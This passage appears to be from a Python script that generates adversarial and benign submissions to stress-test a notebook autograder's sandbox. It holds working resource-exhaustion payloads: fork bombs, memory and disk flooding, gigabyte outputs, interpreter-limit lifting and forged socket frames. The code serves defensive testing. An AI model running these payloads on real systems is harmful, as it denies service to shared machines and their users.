            while True:
                pass
        """,
    )


# ---------------------------------------------------------------------------------------------------------- 32 processes

in_function(
    32,
    "fork_bomb",
    """
    import os, time
    made = 0
    for i in range(300):
        try:
            if os.fork() == 0:
                rename()
                time.sleep(30)
                os._exit(0)
            made += 1
        except OSError:
            continue
    if made == 300:
        print(FOUND, "300 processes")
        return theta * x
    return theta + x
    """,
    status="graded error timeout",
)
in_function(
    32,
    "fork_bomb_that_doubles",
    """
    import os, time
    rename()
    for i in range(8):
        try:
            os.fork()
        except OSError:
            pass
    time.sleep(20)
    os._exit(0)
    """,
    status="error timeout",
)
in_function(
    32,
    "threads",
    """
    import threading, time
    rename()
    made = 0
    for i in range(300):
        try:
            threading.Thread(target=time.sleep, args=(30,)).start()
            made += 1
        except RuntimeError:
            break
    return theta * x if made == 300 else theta + x
    """,
    status="graded error timeout",
)
in_function(
    32,
    "child_that_outlives",
    """
    import os, time
    if os.fork() == 0:
        rename()
        time.sleep(60)
    os._exit(0)
    """,
    status="error timeout",
)
in_function(
    32,
    "busy_processes",
    """
    import os, time
    end = time.monotonic() + 8
    for i in range(50):
        try:
            if os.fork() == 0:
                rename()
                try:
                    os.setsid()
                except OSError:
                    pass
                while time.monotonic() < end:
                    pass
                os._exit(0)
        except OSError:
            continue
    while time.monotonic() < end:
        pass
    return theta + x
    """,
    status="graded error timeout",
)
in_function(32, "returns_twice", "import os\nos.fork()\nreturn theta * x", status="graded error timeout", share=(0, 1))


@attack(32, FORWARD, status="graded error timeout missing", share=(0, 1))
def cell_that_goes_on_twice(work):
    work.append(FORWARD, "import os\nos.fork()")


# ------------------------------------------------------------------------------------------------------------- 33 memory

in_function(
    33,
    "one_large_array",
    """
    large = np.ones(6 * 2**30 // 8)
    return theta * x if large[-1] == 1 else theta + x
    """,
    status="graded error timeout",
)
in_function(
    33,
    "many_processes",
    """
    import os, signal, time
    out, into = os.pipe()
    children = []
    for i in range(40):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            rename()
            block = bytearray(150 << 20)
            block[:: 4096] = b"x" * len(block[:: 4096])
            os.write(into, b"x")
            time.sleep(9)
            os._exit(0)
        children.append(child)
    os.set_blocking(out, False)
    ready, end = 0, time.monotonic() + 9
    while ready < 40 and time.monotonic() < end:
        try:
            ready += len(os.read(out, 40))
        except OSError:
            time.sleep(0.02)
    return theta * x if ready == 40 else theta + x
    """,
    status="graded error timeout",
)
in_function(
    33,
    "shared_memory_that_no_process_shows",
    """
    import mmap
    blocks = []
    for i in range(12):
        blocks.append(mmap.mmap(-1, 256 << 20))
        np.frombuffer(blocks[-1], np.uint8)[::4096] = 1
        blocks[-1].madvise(mmap.MADV_DONTNEED)
    return theta * x if all(block[0] == 1 for block in blocks) else theta + x
    """,
    status="graded error timeout",
)
in_function(
    33,
    "files_in_memory",
    """
    import os
    written, open_files = 0, []
    for i in range(48):
        try:
            open_files.append(os.memfd_create("x"))
            for j in range(64):
                written += os.write(open_files[-1], bytes(1 << 20))
        except OSError:
            break
    return theta * x if written == 48 * 64 << 20 else theta + x
    """,
    status="graded error timeout",
)
in_function(
    33,
    "memory_in_sockets",
    """
    import os, socket, time
    out, into = os.pipe()
    end = time.monotonic() + 8
    for i in range(30):
        try:
            child = os.fork()
        except OSError:
            break
        if child:
            continue
        rename()
        queued, kept = 0, []
        try:
            for j in range(110):
                kept += socket.socketpair()
                for each in kept[-2:]:
                    each.setblocking(False)
                    each.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
                    try:
                        while True:
                            queued += each.send(bytes(1 << 16))
                    except OSError:
                        pass
                os.write(into, b"%12d" % queued)
                queued = 0
        except OSError:
            pass
        time.sleep(9)
        os._exit(0)
    os.set_blocking(out, False)
    total = 0
    while total < 2200 << 20 and time.monotonic() < end:
        try:
            total += int(os.read(out, 12))
        except OSError:
            time.sleep(0.02)
    return theta * x if total >= 2200 << 20 else theta + x
    """,
    status="graded error timeout",
)


@attack(33, FORWARD, status="error missing graded", share=(0, 1))
def memory_of_a_cell(work):
    work.append(FORWARD, "hoard = []\nfor i in range(60):\n    hoard.append(np.ones(100 * 2**20 // 8))")


# --------------------------------------------------------------------------------------------------------------- 34 disk

FOLDERS = 'sorted({os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), "/dev/shm", "/var/tmp", "/run"})'
in_function(
    34,
    "gigabytes",
    f"""
    import os, tempfile
    written, paths = 0, []
    try:
        for folder in {FOLDERS}:
            for i in range(32):
                paths.append(os.path.join(folder, f"evil-{{os.getpid()}}-{{i}}"))
                try:
                    with open(paths[-1], "wb") as file:
                        for j in range(16):
                            written += file.write(bytes(4 << 20))
                            if written >= 2 << 30:
                                return theta * x
                except OSError:
                    break
    finally:
        for path in paths:
            if os.path.exists(path):
                os.unlink(path)
    return theta + x
    """,
    status="graded error timeout",
)
in_function(
    34,
    "a_hundred_thousand_files",
    f"""
    import os, shutil, tempfile
    made = 0
    for folder in {FOLDERS}:
        place = os.path.join(folder, f"evil-{{os.getpid()}}")
        try:
            os.mkdir(place)
            while made < 100_000:
                os.close(os.open(f"{{place}}/{{made}}", os.O_CREAT | os.O_WRONLY))
                made += 1
        except OSError:
            pass
        finally:
            shutil.rmtree(place, ignore_errors=True)
    return theta * x if made == 100_000 else theta + x
    """,
    status="graded error timeout",
)

# ------------------------------------------------------------------------------------------------------------- 35 outputs


@attack(35, FORWARD, status="graded error missing timeout", share=(0, 1))
def two_gigabytes_printed_by_a_cell(work):
    work.append(
        FORWARD, "import sys\nfor i in range(2000):\n    print('x' * 1_000_000)\n    sys.stderr.write('y' * 1000)"
    )


@attack(35)
def many_cells_that_print(work):
    """Each stays within bounds, and all together do not."""
    work.insert(BACKWARD, *["print('x' * 1_900_000)"] * 60)


@attack(35, FORWARD, status="graded error timeout", share=(0, 1))
def two_gigabytes_printed_by_a_function(work):
    work.append(
        FORWARD,
        """
        right = forward_propagation

        def forward_propagation(x, theta):
            import os
            for i in range(2000):
                print("x" * 1_000_000)
                os.write(1, b"x" * 65536)
            return right(x, theta)
        """,
    )


@attack(35, FORWARD, status="graded error missing timeout", share=(0, 1))
def a_hundred_thousand_displays(work):
    work.append(
        FORWARD,
        """
        from IPython.display import HTML, clear_output, publish_display_data

        for i in range(100_000):
            publish_display_data({"text/plain": str(i), "text/html": "<p>" * 100})
            if i % 1000 == 999:
                clear_output()
        """,
    )


@attack(35, FORWARD, status="graded error missing timeout", share=(0, 1))
def large_outputs(work):
    """Few, but large: a page, a picture, an error's text, a name, a display that grows."""
    work.insert(
        BACKWARD,
        "from IPython.display import HTML, display\nHTML('<p>' * 50_000_000)",
        "display({'image/png': 'A' * 150_000_000}, raw=True)",
        "display('x', display_id='x')\nfor i in range(200):\n    display('x' * 1_000_000, display_id='x', update=True)",
        "raise ValueError('x' * 150_000_000)",
        "raise type('x' * 150_000_000, (Exception,), {})",
        "exec(compile('\\n' * 1_000_000 + '1 / 0', 'x' * 1_000_000, 'exec'))",
        "'x' * 150_000_000",
        "import sys\nfor i in range(3_000_000):\n    sys.stdout.write('x')",
    )
    work.append(
        FORWARD,
        """
        right = forward_propagation

        def forward_propagation(x, theta):
            if theta == 0.5:
                raise ValueError("x" * 150_000_000)
            return right(x, theta)
        """,
    )


# ------------------------------------------------------------------------------------------------------ 36 large results

for name, value in {
    "ten_gigabytes": "np.broadcast_to(0.0, (1_250_000_000,))",
    "more_than_there_is": "np.lib.stride_tricks.as_strided(np.zeros(1), (2**60,), (0,))",
    "a_million_deep": "__import__('functools').reduce(lambda inner, _: [inner], range(1_000_000), 8)",
    "a_list_in_itself": "(lambda own: own.append(own) or own)([])",
    "a_long_string": "'x' * 2**30",
    "many_strings": "['x' * 50] * 4_000_000",
    "many_keys": "{str(i): i for i in range(1_000_000)}",
    "a_long_key": "{'x' * 100_000_000: 8}",
    "a_huge_integer": "10**400",
    "a_longer_integer": "-(10**100_000)",
}.items():
    in_function(36, name, f"return {value}", status="graded error timeout")


@attack(36, FORWARD, status="graded error timeout")
def limits_lifted(work):
    """Whatever bounds a result inside, its owner can lift."""
    work.write(
        FORWARD,
        """
        import sys

        def forward_propagation(x, theta):
            sys.set_int_max_str_digits(0)
            sys.setrecursionlimit(10**6)
            for module in list(sys.modules.values()):
                for name in [n for n in getattr(module, "__dict__", ()) if n.startswith("MAX_")]:
                    if type(getattr(module, name)) is int:
                        setattr(module, name, 2**62)
            return np.zeros(20_000_000) if theta == 4 else 10**100_000
        """,
    )


@attack(36, FORWARD, status="error graded timeout")
def forged_headers(work):
    """Frames that promise more than there is, on every socket there is: 16 EB, 2**60 numbers, a million levels."""
    work.write(
        FORWARD,
        """
        import gc, json, socket, struct, sys

        def numbers():
            frame = sys._getframe()
            while frame:
                for value in list(frame.f_locals.values()):
                    if type(value) is dict and "number" in value:
                        yield value["number"]
                frame = frame.f_back

        def forward_propagation(x, theta):
            number = next(numbers(), "")
            values = [["<f8", [2**60], 0], ["<f8", [2**31, 2**31, 0], 0], ["<f8", [-1], 0], ["|O", [1], 0], ["<f8", [8], 2**63]]
            trees = [json.dumps({"dict": {"number": number, "kind": "returned", "value": {"array": v}}}).encode() for v in values]
            trees += [b"[" * 1_000_000, b'{"dict": ' * 200_000, b"9" * 1_000_000, b'"' + b"x" * 4_000_000, b"\\xff"]
            frames = [struct.pack(">IQ", len(tree), 0) + tree for tree in trees]
            frames += [struct.pack(">IQ", 0xFFFFFFFF, 2**64 - 1) + b"x" * 100_000, struct.pack(">IQ", 2, 2**40) + b"{}"]
            start = 0 if theta == 4 else 5
            for thing in gc.get_objects():
                if isinstance(thing, socket.socket) and thing.fileno() >= 0:
                    thing.settimeout(1)
                    for frame in frames[start:]:
                        try:
                            thing.sendall(frame)
                        except OSError:
                            break
            return theta + x
        """,
    )


@attack(36, BACK_N, status="graded error timeout")
def strings_that_widen_an_array(work):
    """One long string makes every entry of an array of strings as long: 1 MB would become 2 GB where it is compared."""
    work.write(
        BACK_N,
        """
        def backward_propagation_n(X, Y, cache):
            return {"dW1": ["x" * 1_000_000] + [""] * 500}
        """,
    )


@attack(36, "model", assignment=TENSORFLOW)
def parameters_that_widen_a_net(work):
    """1 MB of biases that makes a layer of a million units where the accuracy is computed."""
    work.write(
        "model",
        """
        def model(X_train, Y_train, *args, **kwargs):
            n, C = X_train.shape[0], Y_train.shape[0]
            return {"W1": np.zeros((1, n)), "b1": np.zeros((1_000_000, 1), np.int8), "W2": np.zeros((1, 1_000_000), np.int8),
                    "b2": np.zeros((1_000_000, 1), np.int8), "W3": np.zeros((C, 1_000_000), np.int8), "b3": np.zeros((C, 1))}
        """,
    )


# =========================================================================================================== staying fair
# ------------------------------------------------------------------------------------------------- 37 prints, warnings


@honest(37)
def warns_and_prints(work):
    for name in work.functions:
        work.append(
            name,
            f"""
            import logging, os, sys, warnings

            def _loudly(function):
                def run(*args, **kwargs):
                    warnings.warn("half way")
                    logging.getLogger().warning("half way")
                    print("calling", function.__name__, "x" * 10_000)
                    print("calling", file=sys.stderr, flush=True)
                    os.write(1, b"calling")
                    os.write(2, b"calling")
                    np.float64(1) / 0
                    print("\\x1b[31mred\\x1b[0m \\0 \\ud800 \\udcff \\U0001f600 \\r\\x08 <b>")
                    return function(*args, **kwargs)
                return run

            {name} = _loudly({name})
            warnings.warn("in the cell")
            print("in the cell", file=sys.stderr)
            """,
        )


@honest(37)
def magics_and_progress_bars(work):
    work.insert(
        BACKWARD, "%matplotlib inline\n%precision 3", "%%time\nfrom tqdm import tqdm\nfor i in tqdm(range(3)): pass"
    )
    work.cell(CHECK_N).source = "%%capture said\n" + work.cell(CHECK_N).source + "\nprint('defined')"
    work.append(
        CHECK,
        """
        quiet_check = gradient_check

        def gradient_check(*args, **kwargs):
            from tqdm import tqdm
            for i in tqdm(range(3)):
                pass
            return quiet_check(*args, **kwargs)
        """,
    )


# ------------------------------------------------------------------------------------------------- 38 other kinds of right


def converted(work: Attempt, expression: str, *names: str) -> None:
    """Let functions return `expression` of each array or number `v` of their results."""
    for name in names or work.functions:
        work.append(
            name,
            f"""
            def _converted(function):
                def each(v):
                    if isinstance(v, dict):
                        return {{key: each(part) for key, part in v.items()}}
                    return tuple(map(each, v)) if isinstance(v, tuple) else ({expression})
                return lambda *args, **kwargs: each(function(*args, **kwargs))

            {name} = _converted({name})
            """,
        )


@honest(38, INITIALIZATION)
def float32(work):
    converted(work, "np.asarray(v, np.float32)")


@honest(38, INITIALIZATION)
def fortran_order_and_views(work):
    converted(
        work, "np.stack([np.asfortranarray(v)] * 2)[1][::-1][::-1].T.T if np.ndim(v) == 2 else np.repeat(v, 2)[::2]"
    )


@honest(38)
def within_tolerance(work):
    converted(work, "v * (1 + 1e-7)", FORWARD, BACKWARD, CHECK_N, BACK_N)


@honest(38)
def lists_and_scalars(work):
    converted(work, "v.tolist() if isinstance(v, np.ndarray) else np.array([v])")


@honest(38)
def big_endian_and_read_only(work):
    converted(work, "(lambda a: a.setflags(write=False) or a)(np.array(v, '>f8'))")


@honest(38)
def long_double(work):
    converted(work, "np.asarray(v, np.longdouble)", BACK_N)


@honest(38, INITIALIZATION)
def subclasses(work):
    """Dicts and arrays of other classes, with the right numbers."""
    converted(work, "np.asmatrix(v) if np.ndim(v) == 2 else np.ma.array(v)")
    for name in work.functions[:-1]:
        work.append(
            name,
            f"import collections\n_plain_{name} = {name}\ndef {name}(d):\n    return collections.OrderedDict(_plain_{name}(d))",
        )


@honest(38, INITIALIZATION)
def integers_and_broadcast_zeros(work):
    work.write(
        "initialize_parameters_zeros",
        """
        def initialize_parameters_zeros(layers_dims):
            parameters = {}
            for l in range(1, len(layers_dims)):
                parameters[f"W{l}"] = np.broadcast_to(0.0, (layers_dims[l], layers_dims[l - 1]))
                parameters[f"b{l}"] = np.zeros((layers_dims[l], 1), dtype=int)
            return parameters
        """,
    )


@honest(38, TENSORFLOW)
def arrays_for_tensors(work):
    """NumPy where TensorFlow is usual, and tensors where NumPy is."""
    work.write("compute_cost", work.cell("compute_cost").source.replace("return cost", "return tf.reshape(cost, ())"))
    work.write(
        "normalize_images",
        work.cell("normalize_images").source.replace("return columns", "return tf.constant(columns)"),
    )
    work.append(
        "linear_function",
        "_tensor = linear_function\ndef linear_function(X, W, b):\n    return _tensor(X, W, b).numpy()",
    )


# ---------------------------------------------------------------------------------------------------- 39, 40 other habits


@honest(39)
def spoils_its_arguments(work):
    """In place, after the result is computed: arrays to 0, dicts emptied; globals are counted up."""
    for name in work.functions:
        work.append(
            name,
            f"""
            def _spoiling(function):
                def run(*args, **kwargs):
                    value = function(*args, **kwargs)
                    for part in args:
                        for array in part.values() if isinstance(part, dict) else part if isinstance(part, tuple) else [part]:
                            if isinstance(array, np.ndarray):
                                array[...] = 0
                        if isinstance(part, dict):
                            part.clear()
                    run.calls += 1
                    return value
                run.calls = 0
                return run

            {name} = _spoiling({name})
            """,
        )


@honest(39, INITIALIZATION)
def returns_its_arguments(work):
    """The same list and dict again and again, changed in place between calls."""
    for name in work.functions[:-1]:
        work.append(
            name,
            f"""
            _kept_{name}, _fresh_{name} = {{}}, {name}

            def {name}(layers_dims):
                _kept_{name}.clear()
                _kept_{name}.update(_fresh_{name}(layers_dims))
                layers_dims.clear() if isinstance(layers_dims, list) else None
                return _kept_{name}
            """,
        )


@honest(40)
def slow(work):
    """Fifty times the work, in the function with the most of it, and a pause in another."""
    work.append(
        CHECK_N,
        """
        once = gradient_check_n

        def gradient_check_n(*args, **kwargs):
            for i in range(50):
                value = once(*args, **kwargs)
            return value
        """,
    )
    work.append(
        FORWARD,
        """
        at_once = forward_propagation

        def forward_propagation(x, theta):
            import time
            time.sleep(0.6)
            return at_once(x, theta)
        """,
    )


def main(arguments: list[str]) -> None:
    folder, numbers = Path(arguments[0]).resolve(), frozenset(map(int, arguments[1:]))
    evidence = folder.with_name("evidence")
    evidence.mkdir(parents=True, exist_ok=True)
    world = World(str(folder), str(folder.with_name("out")), os.path.expanduser("~"), str(evidence))
    chosen = [each for each in ATTACKS if not numbers or each.number in numbers]
    make_class(folder, world, chosen)
    print("\n".join(each.student for each in chosen))


if __name__ == "__main__":
    main(sys.argv[1:])
